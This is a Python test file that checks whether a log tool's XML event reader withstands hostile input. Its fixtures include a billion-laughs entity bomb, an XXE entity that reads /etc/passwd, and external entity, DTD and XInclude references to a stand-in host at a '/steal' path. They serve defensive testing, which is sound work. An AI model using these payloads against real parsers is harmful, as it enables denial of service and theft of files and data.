"""Promise 1 and 3 for event XML: a bad event costs only itself; entities are never expanded,
nothing is fetched, and memory stays bounded."""

from __future__ import annotations

import resource
import socket

import pytest

from acctrace.sources import xml
from tests.reliability.hostile import balanced, creation_xml, read_bytes

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
 <!ENTITY xxe SYSTEM "file:///etc/passwd">
 <!ENTITY net SYSTEM "http://198.51.100.7/steal">
]>
<Events>
"""


def names(events: list) -> list[str]:
    return [e.data.get("TargetUserName", "") for e in events]


def test_a_malformed_event_costs_only_itself() -> None:
    doc = (
        "<Events>"
        + creation_xml("first", 1)
        + creation_xml("broken", 2).replace("</Channel>", "</Chanel>")
        + creation_xml("unclosed", 3).replace("</Event>", "")
        + "<Event><System><EventID>4720</EventID></System></Event>"  # no channel: still an event
        + creation_xml("last", 5)
        + "</Events>"
    ).encode()
    events, tally = read_bytes(xml, doc)
    assert names(events)[0] == "first" and names(events)[-1] == "last"
    assert tally.skipped["malformed_xml"] == 2 and balanced(tally, len(events))
    assert all(p.where and p.where.startswith("line ") for p in tally.problems)


def test_an_event_cut_off_at_the_end_of_the_file_is_counted() -> None:
    doc = (creation_xml("whole", 1) + creation_xml("cut", 2)[:150]).encode()
    events, tally = read_bytes(xml, doc)
    assert names(events) == ["whole"]
    assert dict(tally.skipped) == {"malformed_xml": 1} and balanced(tally, 1)


def test_billion_laughs_is_not_expanded_and_memory_stays_flat() -> None:
    attack = "<Event><System><EventID>4720</EventID><Channel>Security</Channel>"
    attack += "<Computer>&lol9;&xxe;&net;</Computer></System></Event>"
    doc = BILLION_LAUGHS + (attack + creation_xml("after", 2) + "</Events>").encode()
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    events, tally = read_bytes(xml, doc)
    grown_kib = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
    assert grown_kib < 100_000  # expanded, lol9 alone is 3 GB
    assert names(events) == ["after"]
    assert dict(tally.skipped) == {"malformed_xml": 1}
    assert "lol9" in tally.problems[0].detail  # named as an undefined entity, not expanded
    assert "root:" not in repr(events)


def test_a_document_of_entities_only_says_it_held_no_event() -> None:
    doc = BILLION_LAUGHS + b"<lolz>&lol9;</lolz></Events>"
    events, tally = read_bytes(xml, doc)
    assert events == [] and tally.read == 0
    assert [p.reason for p in tally.problems] == ["no_events"]


def test_no_network_is_touched(monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*args: object, **kwargs: object) -> None:
        raise AssertionError("acctrace opened a network connection")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    doc = b'<!DOCTYPE e SYSTEM "http://198.51.100.7/e.dtd"><Events>'
    doc += creation_xml("x", 1).replace("<Computer>", "<Computer>&net;").encode()
    doc += b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="http://198.51.100.7/"/>'
    events, tally = read_bytes(xml, doc + creation_xml("y", 2).encode() + b"</Events>")
    assert names(events) == ["y"] and tally.skipped["malformed_xml"] == 1


def test_a_huge_attribute_costs_only_its_event() -> None:
    big = creation_xml("big", 1).replace(
        "<Provider ", '<Provider Guid="' + "A" * (11 * 1024 * 1024) + '" '
    )
    events, tally = read_bytes(xml, (big + creation_xml("small", 2)).encode())
    assert names(events)[-1] == "small" and balanced(tally, len(events))
    assert tally.read == 2


def test_an_oversized_event_is_skipped_and_the_next_read(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(xml, "MAX_EVENT_BYTES", 4096)
    monkeypatch.setattr(xml, "_CHUNK_BYTES", 1024)
    big = creation_xml("big", 1).replace("<Data ", "<!--" + "x" * 20_000 + "--><Data ", 1)
    doc = (creation_xml("a", 0) + big + creation_xml("b", 2)).encode()
    events, tally = read_bytes(xml, doc)
    assert names(events) == ["a", "b"]
    assert dict(tally.skipped) == {"event_too_large": 1} and balanced(tally, 2)


def test_invalid_bytes_are_replaced_with_one_note_and_events_read() -> None:
    doc = creation_xml("PLACE", 1).encode().replace(b"PLACE", b"ev\xffil")
    events, tally = read_bytes(xml, doc + creation_xml("next", 2).encode())
    assert names(events) == ["ev\ufffdil", "next"]
    assert [p.reason for p in tally.problems] == ["bad_encoding"]


def test_events_split_across_read_chunks_are_found(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(xml, "_CHUNK_BYTES", 7)
    doc = "".join(creation_xml(f"user{i}", i) for i in range(20))
    events, tally = read_bytes(xml, doc.encode())
    assert names(events) == [f"user{i}" for i in range(20)] and tally.problems == []
    broken = doc.replace("<EventRecordID>13<", "<EventRecordID>13<<")
    events, tally = read_bytes(xml, broken.encode())
    assert len(events) == 19 and [p.where for p in tally.problems] == ["line 14"]
